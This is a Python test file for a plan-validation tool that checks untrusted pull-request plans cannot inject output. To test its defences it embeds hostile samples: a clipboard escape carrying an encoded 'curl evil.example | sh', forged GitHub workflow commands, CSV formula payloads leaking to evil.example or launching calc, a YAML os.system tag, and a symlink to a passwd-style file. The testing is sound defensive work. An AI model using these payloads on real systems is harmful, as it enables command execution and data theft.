"""Plans as untrusted input: what a pull request's plan can make scrplan print, write or read.

Each test holds its payload. A plan comes from anyone who can open a pull request (and soon from
a workbook an agency returns): CI prints `validate --format github` and posts `diff --format
markdown`, a board manager reads `status` in a terminal and opens the CSV in Excel.
"""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import subprocess
import time
import weakref

import pytest

from gitrepo import make_repo
from scrplan import fileio
from scrplan.errors import excerpt_window
from scrplan.history import git, itemlog
from scrplan.output.blocks import Cell, Column, Heading, Para, Table
from scrplan.output.problems import as_github, format_problem
from scrplan.output.spreadsheet import cell, csv_text
from scrplan.plan.load import load_plan
from scrplan.words import visible

GOOD = "title: Test plan\nrecommendations:\n  - id: 1\n    recommendation: Do it.\n"
# An OSC 8 hyperlink, an OSC 52 clipboard write, a clear screen, as YAML escapes.
OSC8 = r"\e]8;;https://evil.example\e\\click\e]8;;\e\\"
OSC52 = r"\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
CLEAR = r"\e[2J\e[H"

# The quality checks (a lead, a target, an impact measure) are not what these tests are about.
pytestmark = pytest.mark.usefixtures("no_quality_checks")


def problems(run, path):
    result = run("validate", path, "--format", "json")
    assert result.exit_code in (0, 1), result.output
    return [
        (p["line"], p["column"], p["code"], p["message"])
        for p in json.loads(result.stdout)["problems"]
    ]


def raw_controls(text: str) -> list[str]:
    """Characters in ``text`` that a terminal would obey or that reorder text."""
    return sorted({ch for ch in text if visible(ch) != ch})


# --- 1. GitHub workflow commands -----------------------------------------------------------------


def run_like_github(output: str) -> list[tuple[str, str]]:
    """The workflow commands the Actions runner would obey in ``output``, as it reads each
    line: `::name props::data` at the start (leading spaces trimmed), or else the old form
    `##[name props]data` anywhere in it; between `::stop-commands::TOKEN` and a command
    named TOKEN, nothing else."""
    obeyed = []
    stop = None
    for line in output.splitlines():
        text = line.lstrip()
        if text.startswith("::") and "::" in text[2:]:
            command, _, data = text[2:].partition("::")
        elif "##[" in text and "]" in text.split("##[", 1)[1]:
            command, _, data = text.split("##[", 1)[1].partition("]")
        else:
            continue
        name = command.split(" ")[0]
        if stop is not None:
            if name == stop:
                stop = None
            continue
        obeyed.append((name, command))
        if name == "stop-commands":
            stop = data
    return obeyed


PAYLOAD = (
    "x\n::error file=plans/x.yaml::Approved by board - merge now\n::add-mask::secret"
    "\n::stop-commands::abc\n  ##[error]old style\n"
)


def test_github_format_lets_no_plan_text_become_a_workflow_command(run, write, monkeypatch):
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    value = json.dumps(PAYLOAD)  # one double-quoted YAML scalar, line breaks as \n
    items = "".join(
        f"  - id: {n}\n    recommendation: Item\n    rag: {value}\n" for n in range(1, 15)
    )
    path = write("title: t\nrecommendations:\n" + items, "plans/a.yaml")
    odd_name = path.parent / "b\n::error::Approved by board.yaml"
    odd_name.write_text("title: t\nrecommendations:\n" + items, encoding="utf-8")
    monkeypatch.chdir(path.parent.parent)
    result = run("validate", "--format", "github")
    assert result.exit_code == 1
    obeyed = run_like_github(result.stdout)
    assert {name for name, _ in obeyed} == {"error", "notice", "stop-commands"}
    # Only annotations scrplan writes, with their properties escaped.
    for name, command in obeyed:
        if name == "error":
            assert command.startswith("error file=plans/")
            assert command.count(",") == 3 and "\n" not in command
    assert sum(name == "error" for name, _ in obeyed) == 10
    # The file name's line break is shown as a stand-in in the plain lines.
    assert "\nplans/b␊::error::Approved by board.yaml:5:10: error:" in result.stdout
    assert "\nplans/b␊::error::Approved by board.yaml: error: this file's name" in result.stdout
    assert "Approved by board - merge now" in result.stdout  # shown, never obeyed


def test_a_message_with_line_breaks_is_one_line_of_text():
    from scrplan.errors import Location, Problem

    problem = Problem(Location("plans/a\nb.yaml", 2, 3), "bad\n::error::x", "bad-rag")
    assert format_problem(problem) == "plans/a␊b.yaml:2:3: error: bad␊::error::x [bad-rag]"
    assert as_github([problem], 1).startswith(
        "::error file=plans/a%0Ab.yaml,line=2,col=3,title=scrplan%3A bad-rag::bad%0A::error::x\n"
    )
    lines = as_github([problem] * 11, 1).splitlines()
    assert lines[10].startswith("::stop-commands::")
    assert lines[11] == "plans/a␊b.yaml:2:3: error: bad␊::error::x [bad-rag]"
    assert lines[12] == lines[10].replace("stop-commands::", "") + "::"


# --- 2. terminal escapes -------------------------------------------------------------------------


def test_control_characters_written_as_escapes_are_refused_where_they_are(run, write):
    path = write(
        f'title: "Plan {OSC8}"\n'
        "recommendations:\n"
        "  - id: 1\n"
        f'    recommendation: "{CLEAR}Approved"\n'
        f'    lead: ["WMP", "{OSC52}"]\n'
        '    evidence: "C1 \\x9b31m and \\N and \\L"\n'
    )
    found = problems(run, path)
    assert [(line, col, code) for line, col, code, _ in found] == [
        (1, 8, "bad-character"),
        (4, 21, "bad-character"),
        (5, 19, "bad-character"),
        (6, 15, "bad-character"),
    ]
    assert "U+001B, an escape character" in found[0][3]
    assert "U+009B, a control character" in found[3][3]
    # No output carries them raw: not validate, not the refusal of status or show.
    for args in (["validate", path], ["status", path], ["show", f"{path}:1"]):
        result = run(*args)
        assert result.exit_code == 1
        assert raw_controls(result.stdout + result.stderr) == []


def test_a_bidi_override_is_refused_at_its_column(run, write):
    # "Approved" shown backwards-and-forwards: U+202E written as it is, not as an escape.
    path = write(GOOD + "    evidence: Report \u202edevorppa\u202c to the board\n")
    [(line, col, code, message)] = problems(run, path)
    assert (line, col, code) == (5, 22, "bad-character")
    assert "U+202E, a right-to-left override" in message


def test_a_dry_run_shows_a_bidi_override_in_a_comment_as_a_stand_in(run, write):
    path = write(GOOD + "    rag: red  # \u202eno comment\u202c\n")
    result = run("set-rag", f"{path}:1", "amber", "--dry-run")
    assert result.exit_code == 0, result.output
    assert "+    rag: amber  # \ufffdno comment\ufffd\n" in result.stdout
    assert raw_controls(result.stdout) == []


def test_every_renderer_shows_a_stand_in():
    from rich.console import Console

    from scrplan.output.markdown import to_markdown
    from scrplan.output.plain import to_plain
    from scrplan.output.terminal import print_page

    table = Table([Column("Ref"), Column("Text\x1b[31m")])
    table.add("1\x07", Cell("a\x1b]52;c;eA==\x07b\u202e", rag="red"))
    page = [Heading("T\x1b[2J"), Para("p\x9b1m"), table]
    buffer = io.StringIO()
    print_page(page, Console(file=buffer, width=80, color_system=None))
    for out in (to_plain(page), to_markdown(page), buffer.getvalue()):
        assert raw_controls(out) == []
        assert "␛" in out and "␇" in out and "\ufffd" in out
    assert visible("a\x1bb\nc") == "a␛b\nc"
    assert visible("a\x1bb\nc", one_line=True) == "a␛b␊c"


def test_json_escapes_them(run, write):
    from scrplan.output.formats import json_text

    text = json_text({"note": "a\x1b\x9b\u202eb"})
    assert raw_controls(text) == []
    assert json.loads(text) == {"note": "a\x1b\x9b\u202eb"}
    path = write(GOOD + '    evidence: "\\x9b and \\u202e"\n')
    assert raw_controls(run("validate", path, "--format", "json").stdout) == []


def test_messages_on_standard_error_show_stand_ins(run, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("status", "plans/\x1b]0;owned\x07.yaml")
    assert result.exit_code == 1
    assert "plans/␛]0;owned␇.yaml" in result.stderr
    assert raw_controls(result.stderr) == []


# --- 3. spreadsheet formulas ---------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]  # (plans lose leading tabs as they are read, and refuse carriage returns)


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(run, write, tmp_path):
    recs = "".join(
        f"  - id: {n}\n    recommendation: {json.dumps(text)}\n    timescale: {json.dumps(text)}\n"
        f"    lead: {json.dumps(text)}\n    rag: red\n"
        for n, text in enumerate(FORMULAS, 1)
    )
    recs += (
        '  - id: 9\n    recommendation: A plain number.\n    timescale: "-2"\n    lead: "+3.5"\n'
    )
    path = write("title: =1+1\nrecommendations:\n" + recs)
    listed = run("list", path, "--format", "csv")
    assert listed.exit_code == 0, listed.output
    report = tmp_path / "board.csv"
    assert run("report", path, "-o", report).exit_code == 0
    for text in (listed.stdout, report.read_text(encoding="utf-8-sig")):
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        header, body = rows[0], rows[1:]
        columns = {name: i for i, name in enumerate(header)}
        for row, payload in zip(body, FORMULAS, strict=False):
            for name in ("Recommendation", "Timescale", "Lead"):
                assert row[columns[name]] == "'" + visible(payload)
        plain = body[len(FORMULAS)]
        assert plain[columns["Timescale"]] == "-2" and plain[columns["Lead"]] == "+3.5"
        for row in body:
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")) or value == "+3.5"


def test_the_csv_writer_leaves_numbers_and_ordinary_text_alone():
    assert [cell(v) for v in ("-2", "-2.5", 3, "Police", "-", "- a dash")] == [
        "-2",
        "-2.5",
        3,
        "Police",
        "'-",
        "'- a dash",
    ]
    assert csv_text(["=x"], [["@y", 1], ["\r=1", "\t=1"]]) == (
        "\ufeff'=x\r\n'@y,1\r\n'␍=1,'\t=1\r\n"
    )


# --- 4. mentions in pull-request comments --------------------------------------------------------


def test_markdown_mentions_no_one_and_keeps_its_escaping(tmp_path, monkeypatch, run):
    repo = make_repo(tmp_path, monkeypatch)
    repo.write("plans/q.yaml", GOOD)
    repo.commit("plan")
    repo.edit(
        "plans/q.yaml",
        "Do it.",
        '"ann@example.org: @octocat @github/team ![x](e.png) <img src=x> ```"',
    )
    result = run("diff", "--format", "markdown")
    assert result.exit_code == 0, result.output
    assert "@&#8203;octocat @&#8203;github/team" in result.stdout
    assert '"ann@example.org:' in result.stdout
    assert "!\\[x\\](e.png) \\<img src=x\\> \\`\\`\\`" in result.stdout
    assert "@octocat" not in result.stdout


# --- 5. entries that are not plans, in a pull request ---------------------------------------------


@pytest.fixture
def pull_request(tmp_path, monkeypatch):
    """main with one plan; pr adds a submodule entry named plans/sub.yaml, a plan whose name
    holds a line break, and moves item 1 from red to blue."""
    repo = make_repo(tmp_path, monkeypatch)
    repo.write("plans/child.yaml", GOOD + "    rag: red\n    target_date: 2024-01\n")
    repo.commit("plan")
    repo.git("checkout", "-q", "-b", "pr")
    repo.edit(
        "plans/child.yaml",
        "rag: red\n    target_date: 2024-01",
        "rag: blue\n    target_date: 2024-09",
    )
    repo.write("plans/new\n::error::x.yaml", GOOD)
    repo.commit("update")
    head = repo.git("rev-parse", "HEAD").strip()
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{head},plans/sub.yaml")
    # Not repo.commit: its `git add -A` would drop the entry, which has no folder here.
    repo.git("-c", "user.name=A", "-c", "user.email=a@example.org", "commit", "-qm", "sub")
    repo.git("checkout", "-q", "main")
    return repo


def test_diff_names_what_is_not_a_plan_and_shows_the_rest(pull_request, run):
    result = run("diff", "main...pr", "--format", "json")
    assert result.exit_code == 1  # the newer side has errors
    record = json.loads(result.stdout)
    assert [(p["plan"], p["status"]) for p in record["plans"]] == [
        ("child", "changed"),
        ("new␊::error::x", "invalid"),
        ("sub", "invalid"),
    ]
    problems_found = {(p["file"], p["code"]) for p in record["problems"]}
    assert ("pr:plans/sub.yaml", "not-a-plan-file") in problems_found
    assert ("pr:plans/new␊::error::x.yaml", "not-a-plan-file") in problems_found
    assert {c["kind"] for c in record["changes"]} == {"rag", "field"}
    text = run("diff", "main...pr")
    assert "a submodule entry" in text.stdout and "red → blue" in text.stdout
    assert "target date moved later" in text.stdout


def test_validate_fails_on_a_checked_out_submodule_and_an_unsafe_name(pull_request, run, tmp_path):
    clone = tmp_path / "clone"
    subprocess.run(
        ["git", "clone", "-q", "-b", "pr", str(pull_request.path), str(clone)], check=True
    )
    assert (clone / "plans" / "sub.yaml").is_dir()  # git makes a folder for a submodule
    os.chdir(clone)
    result = run("validate", "--format", "json")
    assert result.exit_code == 1
    found = {(p["file"], p["code"]) for p in json.loads(result.stdout)["problems"]}
    assert ("plans/sub.yaml", "not-a-plan-file") in found
    assert ("plans/new\n::error::x.yaml", "not-a-plan-file") in found


# --- 8. amplified output --------------------------------------------------------------------------


def test_a_long_line_is_shown_as_a_window_around_each_problem(run, write):
    line = "\x01".join("x" * 20_000 for _ in range(11))
    path = write(f"title: Odd\nsummary: {line}\nrecommendations: []\n")
    result = run("validate", path)
    assert result.exit_code == 1
    assert len(result.stdout) < 10 * 600  # ten problems, not ten copies of a 220 KB line
    blocks = result.stdout.split("\n\n")[:-1]
    assert len(blocks) == 10
    for block in blocks:
        _, excerpt, caret = block.split("\n")
        assert len(excerpt) < 140
        assert excerpt[caret.index("^")] == "\ufffd"  # the caret is under the character


def test_excerpt_window():
    assert excerpt_window("short line", 3) == ("short line", 0)
    text = "".join(chr(ord("a") + i % 26) for i in range(1000))
    window, col = excerpt_window(text, 500)
    assert window == "…" + text[439:559] + "…" and window[col - 1] == text[499]
    assert excerpt_window(text, 1) == (text[:60] + "…", 1)


# --- 9. huge plans --------------------------------------------------------------------------------


def test_a_plan_over_the_size_limit_is_refused_unread(run, tmp_path):
    path = tmp_path / "huge.yaml"
    with open(path, "wb") as handle:
        handle.write(GOOD.encode())
        handle.truncate(fileio.PLAN_SIZE_LIMIT + 1)  # sparse: no time spent writing it
    result = run("validate", path)
    assert result.exit_code == 1
    assert "this file is 16.0 MB, and a plan file can be at most 16 MB" in result.stdout
    edit = run("note", f"{path}:1", "Checked.")
    assert edit.exit_code == 1 and "too-big" in edit.stderr


def test_a_version_in_git_over_the_limit_is_cut_unread(tmp_path, monkeypatch):
    repo = make_repo(tmp_path, monkeypatch)
    big = repo.write("big.bin", "")
    big.write_bytes(b"x" * 5000)
    repo.commit("big")
    blob = repo.git("rev-parse", "HEAD:big.bin").strip()
    assert git.objects([blob], max_size=100) == {blob: b"x" * 101}
    assert git.objects([blob]) == {blob: b"x" * 5000}


# --- 10. long histories ---------------------------------------------------------------------------


def test_log_keeps_only_the_versions_it_compares(tmp_path, monkeypatch):
    repo = make_repo(tmp_path, monkeypatch)
    text = GOOD + "    progress:\n"
    for n in range(30):
        text += f"      - note: Update {n}.\n"
        repo.write("plans/q.yaml", text)
        repo.commit(f"update {n}", day=f"2024-03-{n % 28 + 1:02d}")
    alive: list[weakref.ref] = []
    most = [0]
    real = itemlog.load_version

    def counted(*args, **kwargs):
        gc.collect()
        most[0] = max(most[0], sum(r() is not None for r in alive))
        version = real(*args, **kwargs)
        if version is not None and version.plan is not None:
            alive.append(weakref.ref(version.plan))
        return version

    monkeypatch.setattr(itemlog, "load_version", counted)
    found = itemlog.item_log("q:1")
    assert len(found.entries) == 30
    assert most[0] <= 2  # the version before, and the one before that being let go


# --- 11. links out of the repository --------------------------------------------------------------


def test_a_link_out_of_the_repository_is_neither_read_nor_written(tmp_path, monkeypatch, run):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n" + GOOD, encoding="utf-8")
    repo = make_repo(tmp_path, monkeypatch)
    (repo.path / "plans").mkdir()
    (repo.path / "plans" / "x.yaml").symlink_to(secret)
    result = run("validate", "plans/x.yaml")
    assert result.exit_code == 1
    assert f"this file is a link to {secret}, outside the repository {repo.path}" in result.stdout
    assert "root:x:0:0" not in result.stdout
    before = secret.read_bytes()
    assert run("note", "plans/x.yaml:1", "Checked.").exit_code == 1
    assert secret.read_bytes() == before
    # new over a dangling link would create the file the link names
    (repo.path / "plans" / "y.yaml").symlink_to(outside / "created.yaml")
    made = run("new", "plans/y.yaml", "--title", "Y")
    assert made.exit_code == 1 and "is a link to" in made.stderr
    assert not (outside / "created.yaml").exists()
    source = repo.path / "plan.csv"
    source.write_text("Ref,Recommendation\n1,Share information.\n", encoding="utf-8")
    imported = run("import", source, "-o", "plans/y.yaml")
    assert imported.exit_code == 1 and "is a link to" in imported.stderr
    assert not (outside / "created.yaml").exists()


def test_a_link_out_of_a_plain_folder_is_refused(tmp_path):
    (tmp_path / "plans").mkdir()
    (tmp_path / "elsewhere.yaml").write_text(GOOD, encoding="utf-8")
    (tmp_path / "plans" / "x.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    (tmp_path / "plans" / "inside.yaml").symlink_to("real.yaml")
    (tmp_path / "plans" / "real.yaml").write_text(GOOD, encoding="utf-8")
    [problem] = load_plan(tmp_path / "plans" / "x.yaml").problems
    assert problem.code == "link-outside" and "outside the folder" in problem.message
    assert load_plan(tmp_path / "plans" / "inside.yaml").ok


# --- 12. ids that read alike ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [('"7\\u200b"', "U+200B"), ('"7\\u202e"', "U+202E"), ('"\\uff17"', "U+FF17"), ('"7/1"', "")],
)
def test_ids_are_only_visible_ascii(run, write, written, shown):
    path = write(GOOD + f"  - id: {written}\n    recommendation: Again.\n")
    found = [p for p in problems(run, path) if p[2] == "bad-id"]
    [(line, col, _, message)] = found
    assert (line, col) == (5, 9)
    assert (
        "an id is made only of the letters A to Z, digits, dots, hyphens and underscores" in message
    )
    assert shown in message


# --- 13. explicit tags ----------------------------------------------------------------------------


def test_every_explicit_tag_is_refused_where_it_is(run, write):
    path = write(
        GOOD
        + "    evidence: !!binary QXBwcm92ZWQgYnkgdGhlIGJvYXJk\n"
        + "    lead: !!python/object/apply:os.system ['echo owned']\n"
        + "    timescale: ! Immediate\n"
        + "    learning: &a !<tag:yaml.org,2002:str> text\n"
    )
    found = problems(run, path)
    assert [(line, col, code) for line, col, code, _ in found if code == "yaml-tag"] == [
        (5, 15, "yaml-tag"),
        (6, 11, "yaml-tag"),
        (7, 16, "yaml-tag"),
        (8, 18, "yaml-tag"),
    ]
    assert "YAML tags such as `!!binary` are not allowed" in found[0][3]
    assert "`!!python/object/apply:os.system`" in found[1][3]


# --- 14. temporary files left by a killed edit ----------------------------------------------------


def test_the_next_edit_removes_stale_temporary_files(run, write):
    path = write(GOOD, "plans/child-m.yaml")
    folder = path.parent
    stale = folder / ".child-m.yaml.k3j_x9a2.tmp"
    fresh = folder / ".child-m.yaml.abcd1234.tmp"
    other = folder / ".notes.tmp"
    for file in (stale, fresh, other):
        file.write_bytes(b"half a plan")
    old = time.time() - 120
    os.utime(stale, (old, old))
    os.utime(other, (old, old))
    assert run("note", f"{path}:1", "Checked.", "--dry-run").exit_code == 0
    assert stale.exists()  # a dry run changes nothing
    assert run("note", f"{path}:1", "Checked.").exit_code == 0
    assert not stale.exists() and fresh.exists() and other.exists()


# --- 15. what is not a regular file ---------------------------------------------------------------


def test_a_device_or_a_pipe_is_refused_unread(run, tmp_path):
    pipe = tmp_path / "pipe.yaml"
    os.mkfifo(pipe)  # reading it would wait for ever
    for path in ("/dev/zero", pipe):
        result = run("validate", path)
        assert result.exit_code == 1
        assert "this is not a file of text but a device, a pipe or a socket" in result.stdout


# --- 16. plain words for the odd cases ------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("title: t\n1: x\nrecommendations: []\n", (2, 1, "invalid-key", "1 is not a field name")),
        (
            GOOD + "    target_date: 0000-01-10\n",
            (5, 18, "bad-date", "0000-01-10 is not a real date: there is no year 0"),
        ),
        (
            "title: t\n" + "a" * 1100 + ": x\n",
            (2, 1, "yaml-syntax", "this line goes on for more than 1,024 characters"),
        ),
    ],
)
def test_plain_words(run, write, text, expected):
    line, col, code, words = expected
    found = problems(run, write(text))
    assert [(p[0], p[1], p[2]) for p in found] == [(line, col, code)]
    assert words in found[0][3]


def test_utf32_is_named_as_such(run, tmp_path):
    path = tmp_path / "plan.yaml"
    path.write_bytes(GOOD.encode("utf-32"))
    [(_, _, code, message)] = problems(run, path)
    assert code == "not-utf8" and message.startswith("this file is saved as UTF-32 text")


def test_log_in_a_shallow_clone_says_where_the_history_starts(tmp_path, monkeypatch, run):
    repo = make_repo(tmp_path, monkeypatch)
    repo.write("plans/q.yaml", GOOD + "    rag: red\n")
    repo.commit("plan")
    repo.edit("plans/q.yaml", "rag: red", "rag: amber")
    repo.commit("amber")
    repo.edit("plans/q.yaml", "rag: amber", "rag: green")
    repo.commit("green")
    clone = tmp_path / "clone"
    subprocess.run(
        ["git", "clone", "-q", "--depth", "2", f"file://{repo.path}", str(clone)], check=True
    )
    os.chdir(clone)
    result = run("log", "q:1", "--format", "json")
    assert result.exit_code == 0, result.output
    kinds = [[c["kind"] for c in e["changes"]] for e in json.loads(result.stdout)["commits"]]
    assert kinds == [["rag"], ["history-cut"]]
    text = run("log", "q:1").stdout
    assert "the oldest commit in this clone, which has no earlier history" in text
    assert "new recommendation" not in text
    os.chdir(repo.path)  # the whole history: the first commit did add it
    kinds = [
        [c["kind"] for c in e["changes"]]
        for e in json.loads(run("log", "q:1", "--format", "json").stdout)["commits"]
    ]
    assert kinds == [["rag"], ["rag"], ["item-added"]]


def test_a_row_of_cells_is_made_safe_as_each_cell_is():
    from scrplan.output.spreadsheet import cells

    rows = [
        ["plain", "", 3, None, "-2", "+3.5"],
        [*FORMULAS, "ok", 7],
        ["a line\nbreak", "=1+1", "fine"],
        ["fine", "an \x1b]0;owned\x07 escape", "=SUM(1)", 4, "\u202eorder"],
        ["\tstarts with a tab", "\u2028", "@me"],
    ]
    for row in rows:
        assert cells(row) == [cell(v) for v in row]
    assert cells(rows[3])[1] != rows[3][1]  # a hidden character is shown, not kept


ESCAPE_CASES = [
    "plain words",
    "  spaced  ",
    "a\\b | c * d _ e ` f [g] <h> & i",
    "line one\n  line two  \n\nline four",
    "@octocat and @github/team, not me@example.org",
    "an \x1b]0;owned\x07 escape\u202eand order",
    "\u2028separator\u2029",
    "\x1c\x1d\x1e\x1f\x85 ends",
    "tab\there",
    'the agencies\' "front door"',
    "",
]


@pytest.mark.parametrize("text", ESCAPE_CASES)
def test_markdown_and_html_escape_each_text_as_in_full(text):
    """What each escape gives, found the long way: every step on every text."""
    import html

    from scrplan.output.markdown import _MENTION, md_escape
    from scrplan.report.html_page import esc
    from scrplan.words import visible

    out = visible(text).replace("\\", "\\\\").replace("|", "\\|")
    for ch in "*_`[]<>&":
        out = out.replace(ch, "\\" + ch)
    out = _MENTION.sub("@&#8203;", out)
    assert md_escape(text) == "<br>".join(line.strip() for line in out.strip().split("\n"))
    parts = visible(text).strip().split("\n")
    assert esc(text) == "<br>".join(html.escape(part) for part in parts)
